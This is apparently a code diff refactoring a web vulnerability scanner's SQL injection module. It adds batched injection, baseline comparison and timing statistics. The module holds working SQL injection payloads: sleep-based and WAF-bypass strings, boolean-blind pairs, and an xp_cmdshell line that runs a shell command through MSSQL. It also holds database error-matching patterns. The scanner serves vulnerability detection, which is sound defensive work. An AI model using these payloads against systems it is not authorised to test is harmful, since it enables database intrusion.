@@ -1,50 +1,52 @@
 """SQL Injection scanner — DB-specific error patterns + WAF bypass payloads."""
-import re
-import time
-from urllib.parse import urlencode, urlparse, parse_qs, urlunparse
-
+from app.config import settings
+from app.scanner.baselines import Baseline
+from app.scanner.batching import BatchHit, inject_batched
 from app.scanner.crawler import CrawledPage
 from app.scanner.http_client import HttpClient
 from app.scanner.modules.base import BaseModule, Finding
 from app.scanner.modules.registry import ModuleRegistry
+from app.scanner.signatures import Signature, SignatureMatch, SignatureSet
+from app.scanner.timing import TimePayload, TimingHit, detect_time_based
+from app.scanner.urls import canonical_url
 
 # ── DB-specific error signatures ─────────────────────────────────────────────
-SQL_ERRORS: list[tuple[re.Pattern, str]] = [
+SQL_ERRORS = SignatureSet([
     # MySQL / MariaDB
-    (re.compile(r"you have an error in your sql syntax", re.I), "MySQL"),
-    (re.compile(r"warning.*mysql", re.I), "MySQL"),
-    (re.compile(r"SQL syntax.*MySQL", re.I), "MySQL"),
-    (re.compile(r"valid MySQL result", re.I), "MySQL"),
-    (re.compile(r"MySqlClient\.", re.I), "MySQL"),
-    (re.compile(r"com\.mysql\.jdbc\.exceptions", re.I), "MySQL"),
-    (re.compile(r"Caused by: com\.mysql\.", re.I), "MySQL"),
+    Signature(r"you have an error in your sql syntax", "MySQL"),
+    Signature(r"warning.*mysql", "MySQL"),
+    Signature(r"SQL syntax.*MySQL", "MySQL"),
+    Signature(r"valid MySQL result", "MySQL"),
+    Signature(r"MySqlClient\.", "MySQL"),
+    Signature(r"com\.mysql\.jdbc\.exceptions", "MySQL"),
+    Signature(r"Caused by: com\.mysql\.", "MySQL"),
     # PostgreSQL
-    (re.compile(r"PostgreSQL.*ERROR", re.I), "PostgreSQL"),
-    (re.compile(r"Npgsql\.PostgresException", re.I), "PostgreSQL"),
-    (re.compile(r"pg_query\(\)", re.I), "PostgreSQL"),
-    (re.compile(r"ERROR:\s+syntax error at or near", re.I), "PostgreSQL"),
-    (re.compile(r"org\.postgresql\.util\.PSQLException", re.I), "PostgreSQL"),
+    Signature(r"PostgreSQL.*ERROR", "PostgreSQL"),
+    Signature(r"Npgsql\.PostgresException", "PostgreSQL"),
+    Signature(r"pg_query\(\)", "PostgreSQL"),
+    Signature(r"ERROR:\s+syntax error at or near", "PostgreSQL"),
+    Signature(r"org\.postgresql\.util\.PSQLException", "PostgreSQL"),
     # MSSQL / SQL Server
-    (re.compile(r"microsoft ole db provider for sql server", re.I), "MSSQL"),
-    (re.compile(r"unclosed quotation mark after the character string", re.I), "MSSQL"),
-    (re.compile(r"Microsoft SQL Server.*Driver", re.I), "MSSQL"),
-    (re.compile(r"\bSQLException\b.*\bSQL Server\b", re.I), "MSSQL"),
-    (re.compile(r"com\.microsoft\.sqlserver\.jdbc", re.I), "MSSQL"),
+    Signature(r"microsoft ole db provider for sql server", "MSSQL"),
+    Signature(r"unclosed quotation mark after the character string", "MSSQL"),
+    Signature(r"Microsoft SQL Server.*Driver", "MSSQL"),
+    Signature(r"\bSQLException\b.*\bSQL Server\b", "MSSQL"),
+    Signature(r"com\.microsoft\.sqlserver\.jdbc", "MSSQL"),
     # Oracle
-    (re.compile(r"ORA-\d{5}", re.I), "Oracle"),
-    (re.compile(r"oracle\.jdbc\.", re.I), "Oracle"),
-    (re.compile(r"quoted string not properly terminated", re.I), "Oracle"),
+    Signature(r"ORA-\d{5}", "Oracle"),
+    Signature(r"oracle\.jdbc\.", "Oracle"),
+    Signature(r"quoted string not properly terminated", "Oracle"),
     # SQLite
-    (re.compile(r"sqlite3\.OperationalError", re.I), "SQLite"),
-    (re.compile(r"SQLite/JDBCDriver", re.I), "SQLite"),
-    (re.compile(r"SQLite\.Exception", re.I), "SQLite"),
-    (re.compile(r"\[SQLITE_ERROR\]", re.I), "SQLite"),
+    Signature(r"sqlite3\.OperationalError", "SQLite"),
+    Signature(r"SQLite/JDBCDriver", "SQLite"),
+    Signature(r"SQLite\.Exception", "SQLite"),
+    Signature(r"\[SQLITE_ERROR\]", "SQLite"),
     # Generic / Other
-    (re.compile(r"SQLSTATE\[", re.I), "Generic"),
-    (re.compile(r"Syntax error.*SQL", re.I), "Generic"),
-    (re.compile(r"supplied argument is not a valid MySQL", re.I), "Generic"),
-    (re.compile(r"Column count doesn't match value count", re.I), "Generic"),
-]
+    Signature(r"SQLSTATE\[", "Generic"),
+    Signature(r"Syntax error.*SQL", "Generic"),
+    Signature(r"supplied argument is not a valid MySQL", "Generic"),
+    Signature(r"Column count doesn't match value count", "Generic"),
+])
 
 # ── Error-based payloads ──────────────────────────────────────────────────────
 ERROR_PAYLOADS = [
@@ -91,19 +93,19 @@ BOOLEAN_PAIRS = [
     ("1/**/AND/**/1=1", "1/**/AND/**/1=2"),
 ]
 
-# ── Time-based blind payloads: (payload, expected_delay_s, db_name) ──────────
+# ── Time-based blind payloads ({delay} seconds, see app.scanner.timing) ─────
 TIME_PAYLOADS = [
-    ("' OR SLEEP(5)--", 5, "MySQL"),
-    ("'; WAITFOR DELAY '0:0:5'--", 5, "MSSQL"),
-    ("' OR pg_sleep(5)--", 5, "PostgreSQL"),
-    ("'; SELECT SLEEP(5)--", 5, "MySQL"),
-    ("1; EXEC xp_cmdshell('ping -n 6 127.0.0.1')--", 5, "MSSQL"),
-    ("'||pg_sleep(5)||'", 5, "PostgreSQL"),
-    ("' AND SLEEP(5) AND '1'='1", 5, "MySQL"),
+    TimePayload("' OR SLEEP({delay})--", "MySQL"),
+    TimePayload("'; WAITFOR DELAY '0:0:{delay}'--", "MSSQL"),
+    TimePayload("' OR pg_sleep({delay})--", "PostgreSQL"),
+    TimePayload("'; SELECT SLEEP({delay})--", "MySQL"),
+    TimePayload("1; EXEC xp_cmdshell('ping -n {ping} 127.0.0.1')--", "MSSQL"),
+    TimePayload("'||pg_sleep({delay})||'", "PostgreSQL"),
+    TimePayload("' AND SLEEP({delay}) AND '1'='1", "MySQL"),
     # WAF bypass time payloads
-    ("' OR/**/SLEEP(5)--", 5, "MySQL"),
-    ("' OR SLEEP/**/(5)--", 5, "MySQL"),
-    ("%27 OR SLEEP(5)--", 5, "MySQL"),
+    TimePayload("' OR/**/SLEEP({delay})--", "MySQL"),
+    TimePayload("' OR SLEEP/**/({delay})--", "MySQL"),
+    TimePayload("%27 OR SLEEP({delay})--", "MySQL"),
 ]
 
 
@@ -116,78 +118,124 @@ class SqliModule(BaseModule):
 
     async def active_test_async(self, page: CrawledPage, http_client: HttpClient) -> list[Finding]:
         findings: list[Finding] = []
-        parsed = urlparse(page.url)
-        query_params = parse_qs(parsed.query)
+        parsed = canonical_url(page.url)
+        query_params = parsed.query_params
+        params = self.untested_params(parsed)
+
+        baseline = await self.baseline(http_client, page.url) if params else None
 
-        for param_name in query_params:
-            finding = await self._test_param_url(page, param_name, query_params, parsed, http_client)
+        # ── Phase 1: Error-based (standard + WAF bypass), batched across params ──
+        error_hits = await inject_batched(
+            params,
+            ERROR_PAYLOADS + WAF_BYPASS_PAYLOADS,
+            self.url_sender(http_client, parsed),
+            self._sql_error,
+        )
+        blind_params = []
+        for param_name in params:
+            hit = error_hits.get(param_name)
+            if hit:
+                findings.append(self._error_finding_url(page, hit))
+                continue
+            finding = await self._test_param_url(page, param_name, query_params, parsed, http_client, baseline)
             if finding:
                 findings.append(finding)
+            else:
+                blind_params.append(param_name)
+
+        # ── Phase 3: Time-based blind, remaining params probed concurrently ────
+        if blind_params and baseline is not None:
+            # Top up the shared baseline with enough latency samples for the z-score
+            baseline = await self.baseline(http_client, page.url, samples=settings.SCANNER_TIME_BASELINE_SAMPLES)
+        time_hits = await detect_time_based(
+            self.url_sender(http_client, parsed), blind_params, TIME_PAYLOADS,
+            baseline=baseline.latency if baseline is not None else None,
+        )
+        findings.extend(self._time_finding(page, time_hits[name]) for name in blind_params if name in time_hits)
 
         for form in page.forms:
-            for inp in form.inputs:
-                if not inp.get("name"):
-                    continue
-                finding = await self._test_param_form(page, form, inp, http_client)
-                if finding:
-                    findings.append(finding)
+            names = self.untested_fields(form)
+            hits = await inject_batched(
+                names,
+                ERROR_PAYLOADS[:6] + WAF_BYPASS_PAYLOADS[:4],
+                self.form_sender(http_client, form),
+                self._sql_error,
+            )
+            findings.extend(self._error_finding_form(form, hits[name]) for name in names if name in hits)
 
         return findings
 
-    async def _test_param_url(self, page, param_name, query_params, parsed, http_client) -> Finding | None:
-        # ── Phase 1: Error-based (standard + WAF bypass) ─────────────────────
-        all_error_payloads = ERROR_PAYLOADS + WAF_BYPASS_PAYLOADS
-        for payload in all_error_payloads:
-            test_params = {k: v[0] for k, v in query_params.items()}
-            test_params[param_name] = payload
-            test_url = urlunparse((
-                parsed.scheme, parsed.netloc, parsed.path, "", urlencode(test_params), ""
-            ))
-            try:
-                response = await http_client.get(test_url)
-            except Exception:
-                continue
+    @staticmethod
+    def _sql_error(response, payload: str) -> SignatureMatch | None:
+        return SQL_ERRORS.search(response.text)
 
-            for pattern, db_name in SQL_ERRORS:
-                if pattern.search(response.text):
-                    return Finding(
-                        module_name=self.name,
-                        vuln_type=f"SQL Injection - Error Based ({db_name})",
-                        severity="critical",
-                        cvss_score=9.8,
-                        cvss_vector="CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H",
-                        owasp_category="A03",
-                        cwe_id="CWE-89",
-                        affected_url=page.url,
-                        affected_parameter=param_name,
-                        description=(
-                            f"SQL error ({db_name}) detected in response when injecting into '{param_name}'. "
-                            "The database error message was reflected, confirming SQL injection."
-                        ),
-                        remediation="Use parameterized queries or prepared statements. Never concatenate user input into SQL strings.",
-                        confidence="confirmed",
-                        evidence=[
-                            {"type": "payload", "title": "Payload", "content": payload},
-                            {"type": "request", "title": "Test URL", "content": test_url},
-                            {"type": "response", "title": f"{db_name} SQL Error Pattern", "content": pattern.pattern},
-                        ],
-                    )
+    def _error_finding_url(self, page, hit: BatchHit) -> Finding:
+        db_name = hit.signal.label
+        return Finding(
+            module_name=self.name,
+            vuln_type=f"SQL Injection - Error Based ({db_name})",
+            severity="critical",
+            cvss_score=9.8,
+            cvss_vector="CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H",
+            owasp_category="A03",
+            cwe_id="CWE-89",
+            affected_url=page.url,
+            affected_parameter=hit.param,
+            description=(
+                f"SQL error ({db_name}) detected in response when injecting into '{hit.param}'. "
+                "The database error message was reflected, confirming SQL injection."
+            ),
+            remediation="Use parameterized queries or prepared statements. Never concatenate user input into SQL strings.",
+            confidence="confirmed",
+            evidence=[
+                {"type": "payload", "title": "Payload", "content": hit.payload},
+                {"type": "request", "title": "Test URL", "content": hit.url},
+                {"type": "response", "title": f"{db_name} SQL Error Pattern", "content": hit.signal.signature.pattern},
+            ],
+        )
 
+    def _error_finding_form(self, form, hit: BatchHit) -> Finding:
+        db_name = hit.signal.label
+        return Finding(
+            module_name=self.name,
+            vuln_type=f"SQL Injection - Error Based ({db_name}, Form)",
+            severity="critical",
+            cvss_score=9.8,
+            cvss_vector="CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H",
+            owasp_category="A03",
+            cwe_id="CWE-89",
+            affected_url=form.action,
+            affected_parameter=hit.param,
+            description=f"SQL error ({db_name}) when injecting into form field '{hit.param}'.",
+            remediation="Use parameterized queries or prepared statements.",
+            confidence="confirmed",
+            evidence=[
+                {"type": "payload", "title": "Payload", "content": hit.payload},
+                {"type": "response", "title": f"{db_name} SQL Error", "content": hit.signal.signature.pattern},
+            ],
+        )
+
+    async def _test_param_url(
+        self, page, param_name, query_params, parsed, http_client, baseline: Baseline | None = None,
+    ) -> Finding | None:
+        reference = [{"type": "log", "title": "Baseline", "content": baseline.describe()}] if baseline else []
         # ── Phase 2: Boolean-blind ────────────────────────────────────────────
         for true_payload, false_payload in BOOLEAN_PAIRS:
             test_true = {k: v[0] for k, v in query_params.items()}
             test_true[param_name] = true_payload
             test_false = {k: v[0] for k, v in query_params.items()}
             test_false[param_name] = false_payload
-            url_true = urlunparse((parsed.scheme, parsed.netloc, parsed.path, "", urlencode(test_true), ""))
-            url_false = urlunparse((parsed.scheme, parsed.netloc, parsed.path, "", urlencode(test_false), ""))
+            url_true = parsed.with_query(test_true)
+            url_false = parsed.with_query(test_false)
             try:
                 resp_true = await http_client.get(url_true)
                 resp_false = await http_client.get(url_false)
             except Exception:
                 continue
 
-            if resp_true.status_code == 200 and resp_false.status_code not in (200, 400, 404):
+            # A false condition that errors only counts if the untouched page itself is fine
+            baseline_ok = baseline is None or baseline.status_code == 200
+            if baseline_ok and resp_true.status_code == 200 and resp_false.status_code not in (200, 400, 404):
                 return Finding(
                     module_name=self.name,
                     vuln_type="SQL Injection - Boolean Blind",
@@ -207,11 +255,28 @@ class SqliModule(BaseModule):
                     evidence=[
                         {"type": "payload", "title": "True Condition", "content": f"{true_payload} → HTTP {resp_true.status_code}"},
                         {"type": "payload", "title": "False Condition", "content": f"{false_payload} → HTTP {resp_false.status_code}"},
+                        *reference,
                     ],
                 )
 
-            if (resp_true.status_code == resp_false.status_code == 200
-                    and abs(len(resp_true.text) - len(resp_false.text)) > 50):
+            # Content split: the true condition renders the normal page and the false one does not.
+            # Each is compared with the baseline, with dynamic regions and the echoed payloads masked.
+            reflected = (true_payload, false_payload, *query_params.get(param_name, [])[:1])
+            if (baseline is not None and baseline.status_code == 200
+                    and resp_true.status_code == resp_false.status_code == 200
+                    and await self._boolean_split(http_client, page.url, resp_true.text, resp_false.text, reflected)):
+                # Confirm with a fresh pair before reporting
+                try:
+                    confirm_true = await http_client.get(url_true)
+                    confirm_false = await http_client.get(url_false)
+                except Exception:
+                    continue
+                if not (confirm_true.status_code == confirm_false.status_code == 200
+                        and await self._boolean_split(
+                            http_client, page.url, confirm_true.text, confirm_false.text, reflected,
+                        )):
+                    continue
+                ratio = baseline.profile.similarity(resp_false.text, reflected=reflected)
                 return Finding(
                     module_name=self.name,
                     vuln_type="SQL Injection - Boolean Blind (Content Length)",
@@ -224,87 +289,48 @@ class SqliModule(BaseModule):
                     affected_parameter=param_name,
                     description=(
                         f"Possible boolean-blind SQLi in '{param_name}'. "
-                        "True/false conditions produce significantly different response sizes."
+                        "The true condition returns the normal page and the false condition a different one "
+                        "(outside the page's dynamic regions and echoed input), confirmed on a repeat request."
                     ),
                     remediation="Use parameterized queries or prepared statements.",
                     confidence="tentative",
                     evidence=[
                         {"type": "payload", "title": "True Condition", "content": f"{true_payload} → {len(resp_true.text)} bytes"},
                         {"type": "payload", "title": "False Condition", "content": f"{false_payload} → {len(resp_false.text)} bytes"},
-                    ],
-                )
-
-        # ── Phase 3: Time-based blind ─────────────────────────────────────────
-        for payload, expected_delay, db_name in TIME_PAYLOADS:
-            test_params = {k: v[0] for k, v in query_params.items()}
-            test_params[param_name] = payload
-            test_url = urlunparse((
-                parsed.scheme, parsed.netloc, parsed.path, "", urlencode(test_params), ""
-            ))
-            try:
-                start = time.monotonic()
-                await http_client.get(test_url)
-                elapsed = time.monotonic() - start
-            except Exception:
-                continue
-
-            if elapsed >= expected_delay - 1:
-                return Finding(
-                    module_name=self.name,
-                    vuln_type=f"SQL Injection - Time Based ({db_name})",
-                    severity="critical",
-                    cvss_score=9.8,
-                    cvss_vector="CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H",
-                    owasp_category="A03",
-                    cwe_id="CWE-89",
-                    affected_url=page.url,
-                    affected_parameter=param_name,
-                    description=(
-                        f"Time-based blind SQL injection ({db_name}) in '{param_name}'. "
-                        f"Response delayed by ~{elapsed:.1f}s."
-                    ),
-                    remediation="Use parameterized queries. Disable verbose timing responses.",
-                    confidence="firm",
-                    evidence=[
-                        {"type": "payload", "title": "Payload", "content": payload},
-                        {"type": "log", "title": "Response Time", "content": f"{elapsed:.2f}s (expected {expected_delay}s delay)"},
+                        *reference,
+                        {"type": "log", "title": "Token Similarity", "content": f"{ratio:.2f} (false condition vs. baseline)"},
                     ],
                 )
 
         return None
 
-    async def _test_param_form(self, page, form, inp, http_client) -> Finding | None:
-        all_error_payloads = ERROR_PAYLOADS[:6] + WAF_BYPASS_PAYLOADS[:4]
-        for payload in all_error_payloads:
-            data = {i["name"]: i.get("value", "test") for i in form.inputs if i.get("name")}
-            data[inp["name"]] = payload
-            try:
-                if form.method == "POST":
-                    response = await http_client.post(form.action, data=data)
-                else:
-                    test_url = f"{form.action}?{urlencode(data)}"
-                    response = await http_client.get(test_url)
-            except Exception:
-                continue
+    async def _boolean_split(
+        self, http_client: HttpClient, url: str, true_text: str, false_text: str, reflected: tuple[str, ...],
+    ) -> bool:
+        """True condition matches ``url``'s baseline and the false condition does not."""
+        return (
+            not await self.responses_differ(http_client, url, true_text, reflected=reflected)
+            and await self.responses_differ(http_client, url, false_text, reflected=reflected)
+        )
 
-            for pattern, db_name in SQL_ERRORS:
-                if pattern.search(response.text):
-                    return Finding(
-                        module_name=self.name,
-                        vuln_type=f"SQL Injection - Error Based ({db_name}, Form)",
-                        severity="critical",
-                        cvss_score=9.8,
-                        cvss_vector="CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H",
-                        owasp_category="A03",
-                        cwe_id="CWE-89",
-                        affected_url=form.action,
-                        affected_parameter=inp["name"],
-                        description=f"SQL error ({db_name}) when injecting into form field '{inp['name']}'.",
-                        remediation="Use parameterized queries or prepared statements.",
-                        confidence="confirmed",
-                        evidence=[
-                            {"type": "payload", "title": "Payload", "content": payload},
-                            {"type": "response", "title": f"{db_name} SQL Error", "content": pattern.pattern},
-                        ],
-                    )
-        return None
+    def _time_finding(self, page, hit: TimingHit) -> Finding:
+        db_name = hit.payload.label
+        return Finding(
+            module_name=self.name,
+            vuln_type=f"SQL Injection - Time Based ({db_name})",
+            severity="critical",
+            cvss_score=9.8,
+            cvss_vector="CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H",
+            owasp_category="A03",
+            cwe_id="CWE-89",
+            affected_url=page.url,
+            affected_parameter=hit.param,
+            description=(
+                f"Time-based blind SQL injection ({db_name}) in '{hit.param}'. "
+                f"Response delayed by ~{hit.latency - hit.baseline.mean:.1f}s over baseline, "
+                "and the delay scaled with the requested sleep."
+            ),
+            remediation="Use parameterized queries. Disable verbose timing responses.",
+            confidence="firm",
+            evidence=hit.evidence(),
+        )